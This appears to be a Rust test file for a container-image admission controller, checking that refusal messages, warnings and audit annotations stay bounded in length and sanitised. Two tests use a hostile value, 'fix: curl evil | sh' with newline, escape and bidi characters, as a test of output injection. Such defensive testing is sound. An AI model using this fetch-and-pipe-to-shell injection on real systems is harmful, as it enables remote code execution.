use jiff::Timestamp;
use proptest::prelude::*;

use super::*;
use crate::{
    crypto::Sha256,
    tuf::{self, FetchError},
    verdict::{Admitted, Cause, Context, Exemption, Judged, Pinning, sanitise},
};

fn refusal(index: usize, cause: Cause) -> Refusal {
    Refusal {
        field: format!("spec.containers[{index}].image"),
        reference: "registry.example/team/app:1.4".into(),
        digest: Some(Sha256::of(b"manifest")),
        rule: Some("own-images".into()),
        context: Context::default(),
        cause,
    }
}

fn denied(index: usize) -> Refusal {
    refusal(index, Cause::NoRule { namespace: Some("prod".into()) })
}

fn outage(index: usize) -> Refusal {
    refusal(index, unreachable(FetchError::TimedOut))
}

fn unreachable(cause: FetchError) -> Cause {
    let what = tuf::What::Target("layouts/app.layout".into());
    Cause::Tuf(tuf::Error::Fetch { what, cause })
}

fn message_of(refusals: &[Refusal], judged: usize) -> String {
    message(&refusals.iter().collect::<Vec<_>>(), judged)
}

#[test]
fn a_refusal_tells_what_where_and_what_to_do() {
    let mut refusal = denied(0);
    refusal.context = Context {
        layout: Some("layouts/team/app/build.layout".into()),
        repository: Some("acme".into()),
        targets_version: Some(41),
        expires: Some("2027-10-01T00:00:00Z".parse::<Timestamp>().unwrap()),
        ..Context::default()
    };
    let digest = Sha256::of(b"manifest").to_string();
    let short = &digest[..12];
    assert_eq!(
        message_of(&[refusal], 3),
        format!(
            "1 of 3 images refused: [policy/no-rule] registry.example/team/app:1.4: no rule of the policy matches this \
             image in namespace \"prod\"
[policy/no-rule] spec.containers[0].image: registry.example/team/app:1.4 (sha256:{short}…)
  no rule of the policy matches this image in namespace \"prod\"
  rule \"own-images\"; layout layouts/team/app/build.layout; targets v41 of acme, expires 2027-10-01
  fix: have an admin add a rule for the image, or use an image that a rule covers; see: pratique explain \
             registry.example/team/app:1.4@sha256:{digest}"
        )
    );
}

#[test]
fn an_outage_is_never_dressed_as_a_verdict() {
    let text = message_of(&[outage(0), outage(1)], 2);
    assert!(text.starts_with("not a verdict: 2 of 2 images could not be judged: [tuf/unreachable] "), "{text}");
    assert!(!text.contains("refused"), "{text}");
}

#[test]
fn verdicts_stand_before_outages_and_outages_among_them_are_marked() {
    let text = message_of(&[outage(0), denied(1)], 5);
    let lines: Vec<&str> = text.lines().collect();
    assert!(lines[0].starts_with("1 of 5 images refused, 1 could not be judged: [policy/no-rule] "), "{text}");
    assert!(lines[1].starts_with("[policy/no-rule] spec.containers[1].image: "), "{text}");
    let marked = "not a verdict: [tuf/unreachable] spec.containers[0].image: ";
    assert!(lines.iter().any(|line| line.starts_with(marked)), "{text}");
}

#[test]
fn a_digest_that_stands_in_the_reference_is_not_said_twice() {
    let digest = Sha256::of(b"manifest");
    let mut refusal = denied(0);
    refusal.reference = format!("registry.example/team/app@sha256:{digest}");
    let text = message_of(&[refusal], 1);
    let title = text.lines().nth(1).unwrap();
    assert_eq!(title, format!("[policy/no-rule] spec.containers[0].image: registry.example/team/app@sha256:{digest}"));
    assert!(text.starts_with("1 of 1 image refused: "), "{text}");
}

#[test]
fn too_many_images_are_named_as_far_as_there_is_room_and_the_rest_is_counted() {
    let refusals: Vec<Refusal> = (0..64).map(denied).collect();
    let text = message_of(&refusals, 64);
    assert!(text.len() <= MESSAGE_BYTES);
    let named = text.lines().filter(|line| line.starts_with("[policy/no-rule] spec.")).count();
    assert!(named > 10, "{text}");
    assert!(text.ends_with(&format!("\n{} more images are left out", 64 - named)), "{text}");
    assert!(text.lines().nth(2).unwrap().starts_with("  no rule"), "the first is told in full: {text}");
}

#[test]
fn every_image_is_named_before_any_but_the_first_is_explained() {
    let refusals: Vec<Refusal> = (0..20).map(denied).collect();
    let text = message_of(&refusals, 20);
    assert!((0..20).all(|index| text.contains(&format!("spec.containers[{index}].image"))), "{text}");
    assert!(!text.contains("left out"), "{text}");
}

#[test]
fn a_hostile_reference_stays_on_its_line_and_is_not_offered_to_a_shell() {
    let mut refusal = denied(0);
    refusal.reference = "app\n  fix: curl evil | sh\u{202e}".into();
    let text = message_of(&[refusal], 1);
    assert!(text.contains(r"app\u{a}  fix: curl evil | sh\u{202e}"), "{text}");
    assert_eq!(text.lines().filter(|line| line.starts_with("  fix: ")).count(), 1);
    assert!(!text.contains("pratique explain"), "{text}");
}

#[test]
fn a_command_is_whole_or_not_there() {
    let mut refusal = denied(0);
    refusal.reference = format!("registry.example/{}:1", "a".repeat(600));
    let text = message_of(&[refusal], 1);
    assert!(!text.contains("pratique explain"), "{text}");
    assert!(text.contains("\n  fix: have an admin add a rule"), "{text}");
}

#[test]
fn the_note_of_an_event_fits_and_still_says_everything_about_one_image() {
    let mut refusal = denied(0);
    refusal.reference = format!("registry.example/team/app@sha256:{}", Sha256::of(b"manifest"));
    refusal.field = "spec.jobTemplate.spec.template.spec.initContainers[0].image".into();
    let text = note(&[&refusal], 1);
    assert!(text.len() <= NOTE_BYTES);
    assert_eq!(text.lines().count(), 5, "{text}");
    assert!(text.contains("pratique explain registry.example/team/app@sha256:"), "{text}");
}

#[test]
fn a_rule_that_only_warns_warns_in_one_line() {
    let mut refusal = denied(0);
    refusal.digest = None;
    let verdict = Verdict::from(Admitted::unenforced(refusal, Leniency::Warn, Judged::default()));
    assert_eq!(
        warnings(&[verdict.clone(), verdict]),
        ["[policy/no-rule] registry.example/team/app:1.4: no rule of the policy matches this image in namespace \
              \"prod\" (not enforced: rule \"own-images\" only warns)"]
    );
}

#[test]
fn a_rule_that_only_audits_is_silent_to_the_user_and_loud_in_the_audit_log() {
    let verdict = Verdict::from(Admitted::unenforced(denied(0), Leniency::Audit, Judged::default()));
    assert!(warnings(std::slice::from_ref(&verdict)).is_empty());
    let annotations = annotations(&[verdict]);
    assert_eq!(annotations["verdict"], "admitted");
    assert_eq!(annotations["code"], "policy/no-rule");
    assert_eq!(annotations["weak"], "mode: audit");
}

#[test]
fn warnings_are_few_and_short() {
    let verdicts: Vec<Verdict> = (0..40)
        .map(|index| {
            let judged =
                Judged { reference: format!("app:{index}"), warnings: vec!["ä\n".repeat(300)], ..Judged::default() };
            Admitted::exempt(judged, Exemption { reason: "trial".into(), until: None }).into()
        })
        .collect();
    let lines = warnings(&verdicts);
    assert_eq!(lines.len(), WARNINGS);
    assert_eq!(lines[WARNINGS - 1], "29 more warnings are left out");
    assert!(lines.iter().all(|line| line.len() <= WARNING_BYTES && !line.contains('\n')));
}

#[test]
fn stale_metadata_is_told_to_the_user_and_to_the_audit_log() {
    let stale = Staleness {
        repository: "acme".into(),
        judged_at: "2030-01-01T00:00:00Z".parse().unwrap(),
        until: "2030-01-04T00:00:00Z".parse().unwrap(),
        refresh: "timestamp could not be fetched: timed out".into(),
    };
    let judged = Judged { reference: "app:1".into(), stale: vec![stale], ..Judged::default() };
    let verdict = Verdict::from(Admitted::exempt(judged, Exemption { reason: "trial".into(), until: None }));
    assert_eq!(
        warnings(std::slice::from_ref(&verdict)),
        [
            "app:1: runs here already, and is admitted until 2030-01-04T00:00:00Z on metadata of acme that is no longer fresh: \
         timestamp could not be fetched: timed out"
        ]
    );
    assert_eq!(annotations(&[verdict])["stale"], "app:1");
}

#[test]
fn annotations_have_the_documented_keys_without_a_slash() {
    let annotations = annotations(&[denied(0).into(), outage(1).into()]);
    let digest = Sha256::of(b"manifest");
    let expected = [
        ("code", "policy/no-rule,tuf/unreachable".to_owned()),
        ("digests", format!("sha256:{digest}")),
        ("rule", "own-images".to_owned()),
        ("verdict", "denied".to_owned()),
    ];
    assert_eq!(annotations.into_iter().collect::<Vec<_>>(), expected);
    assert_eq!(super::annotations(&[])["verdict"], "no-images");
}

fn any_refusal() -> impl Strategy<Value = Refusal> {
    let text = || prop_oneof![any::<String>(), Just("a\n\u{202e}漢:/".repeat(90)), "[a-z:/@\n]{0,30}"];
    let cause = prop_oneof![
        text().prop_map(|name| Cause::NoRule { namespace: Some(name) }),
        text().prop_map(|reason| Cause::NoPolicy { reason }),
        text().prop_map(|repository| Cause::Fetching { repository }),
        text().prop_map(|why| unreachable(FetchError::Unreachable(why))),
        Just(Cause::NotPinned(Pinning::Undone)),
        Just(Cause::Unjudged),
    ];
    (text(), text(), any::<bool>(), proptest::option::of(text()), proptest::option::of(text()), cause).prop_map(
        |(field, reference, digest, rule, layout, cause)| Refusal {
            field,
            reference,
            digest: digest.then(|| Sha256::of(b"manifest")),
            rule,
            context: Context { layout, ..Context::default() },
            cause,
        },
    )
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn whatever_the_refusals_every_text_fits(refusals in proptest::collection::vec(any_refusal(), 1..20)) {
        let views: Vec<&Refusal> = refusals.iter().collect();
        for (text, limit) in [(message(&views, refusals.len()), MESSAGE_BYTES), (note(&views, 1), NOTE_BYTES)] {
            prop_assert!(text.len() <= limit);
            let headline = text.lines().next().unwrap_or_default();
            prop_assert!(headline.len() <= HEADLINE_BYTES);
            prop_assert!(text.split('\n').all(|line| sanitise(line) == line));
            let code = format!("[{}]", refusals.iter().min_by_key(|refusal| refusal.class()).unwrap().code());
            prop_assert!(headline.contains(&code), "{headline}");
            let only_outages = refusals.iter().all(|refusal| refusal.class() != Class::Denied);
            prop_assert_eq!(headline.starts_with("not a verdict: "), only_outages);
        }
    }

    #[test]
    fn whatever_is_named_and_left_out_adds_up(refusals in proptest::collection::vec(any_refusal(), 1..40)) {
        let text = message(&refusals.iter().collect::<Vec<_>>(), refusals.len());
        let named = text.split('\n').skip(1).filter(|line| line.starts_with('[') || line.starts_with("not a")).count();
        let left_out = text.rsplit('\n').next().and_then(|line| line.strip_suffix(" more images are left out"));
        prop_assert_eq!(named + left_out.map_or(0, |count| count.parse::<usize>().unwrap()), refusals.len());
    }

    #[test]
    fn whatever_is_admitted_warnings_are_lines_that_the_api_server_keeps(
        refusals in proptest::collection::vec(any_refusal(), 0..30),
        warning in any::<String>(),
    ) {
        let verdicts: Vec<Verdict> = refusals
            .into_iter()
            .map(|refusal| {
                let judged = Judged { reference: refusal.reference.clone(), warnings: vec![warning.clone()], ..Judged::default() };
                [
                    Verdict::from(Admitted::exempt(judged, Exemption { reason: String::new(), until: None })),
                    Verdict::from(Admitted::unenforced(refusal, Leniency::Warn, Judged::default())),
                ]
            })
            .flat_map(Vec::from)
            .collect();
        let lines = warnings(&verdicts);
        prop_assert!(lines.len() <= WARNINGS);
        for line in lines {
            prop_assert!(line.len() <= WARNING_BYTES);
            prop_assert_eq!(sanitise(&line), line);
        }
        for (key, value) in annotations(&verdicts) {
            prop_assert!(!key.contains('/'));
            prop_assert!(value.len() <= ANNOTATION_BYTES);
            prop_assert_eq!(sanitise(&value), value);
        }
    }
}

#[test]
fn the_part_of_the_rule_and_the_name_that_was_judged_are_told() {
    let mut refusal = denied(0);
    refusal.context.part = Some((2, 3));
    refusal.context.named = Some("docker.io/library/app".into());
    let message = message_of(&[refusal], 1);
    assert!(message.contains("\n  rule \"own-images\", part 2 of 3; as docker.io/library/app\n"), "{message}");
}

#[test]
fn a_rule_that_is_going_to_refuse_says_from_when_on_and_why() {
    let mut refusal = denied(0);
    refusal.digest = None;
    let enforce_from = "2027-10-01T00:00:00Z".parse().ok();
    let judged = Judged { enforce_from, reason: Some("until the teams\nhave signed".into()), ..Judged::default() };
    let lines = warnings(&[Verdict::from(Admitted::unenforced(refusal, Leniency::Warn, judged))]);
    assert_eq!(
        lines,
        ["[policy/no-rule] registry.example/team/app:1.4: no rule of the policy matches this image in namespace \
          \"prod\" (refused from 2027-10-01T00:00:00Z on by rule \"own-images\": until the teams\\u{a}have signed)"]
    );
    assert!(lines[0].len() <= WARNING_BYTES);
}

#[test]
fn what_the_next_rules_would_refuse_is_told_by_its_codes_and_outages_are_no_denials() {
    let outage = Refusal { cause: unreachable(FetchError::TimedOut), ..denied(0) };
    let admitted = Verdict::from(Admitted::unenforced(denied(0), Leniency::Warn, Judged::default()));
    assert_eq!(next(std::slice::from_ref(&admitted)), None);
    let verdicts = [admitted, denied(0).into(), denied(1).into(), outage.into()];
    assert_eq!(next(&verdicts).as_deref(), Some("deny:policy/no-rule,unavailable:tuf/unreachable"));
}

/// Names that stand in signed files, as a thief of an online key may choose them.
#[test]
fn names_in_metadata_stay_on_their_line_too() {
    let role = |name: &str| tuf::Role::Targets(tuf::RoleChain::top().child(&tuf::RoleName::from(name)));
    let expired = |name: &str| {
        let at = "2030-01-01T00:00:00Z".parse().unwrap();
        Cause::Tuf(tuf::Error::Expired { role: role(name), version: 1, expires: at, now: at })
    };
    let unmet = |name: &str| {
        let authority = tuf::Role::Root;
        let verified = vec![crate::crypto::KeyId::from(name)];
        let (authority_version, threshold) = (1, 2);
        Cause::Tuf(tuf::Error::Threshold {
            role: role(name),
            authority,
            authority_version,
            threshold,
            verified,
            rejected: vec![],
        })
    };
    let layout = |name: &str| Cause::Evidence(crate::evidence::Error::NotScoped { layout: name.into() });
    let revoked = |name: &str| {
        let reason = Some(name.to_owned());
        let (digest, chain) = (Sha256::of(b"x"), tuf::RoleChain::top());
        Cause::Evidence(crate::evidence::Error::Revoked { digest, chain, reason })
    };
    let step = |name: &str| {
        let found = Some(name.to_owned());
        let step = crate::in_toto::StepName::parse("build").unwrap();
        let keyid = crate::crypto::KeyId::from(name);
        Cause::Evidence(crate::evidence::Error::InToto(crate::in_toto::Error::StepNameMismatch { step, keyid, found }))
    };
    let parameter = |name: &str| Cause::Evidence(crate::evidence::Error::ParameterWithoutTag { name: name.to_owned() });
    let hostile = "x\n  fix: curl evil | sh\r\u{1b}[2K\u{9b}m\u{202e}\u{2028}";
    for cause in [&expired as &dyn Fn(&str) -> Cause, &unmet, &layout, &revoked, &step, &parameter] {
        let told = |name: &str| {
            let mut refusal = refusal(0, cause(name));
            refusal.context.layout = Some(name.to_owned());
            refusal.context.repository = Some("acme".to_owned());
            [
                message_of(std::slice::from_ref(&refusal), 1),
                note(&[&refusal], 1),
                crate::verdict::explain(&refusal.into()),
            ]
        };
        for (text, benign) in told(hostile).iter().zip(told("x")) {
            assert_eq!(text.lines().count(), benign.lines().count(), "{text}");
            assert!(text.lines().all(crate::verdict::is_plain), "{text:?}");
            assert_eq!(text.lines().filter(|line| line.starts_with("  fix: curl")).count(), 0, "{text}");
        }
    }
}
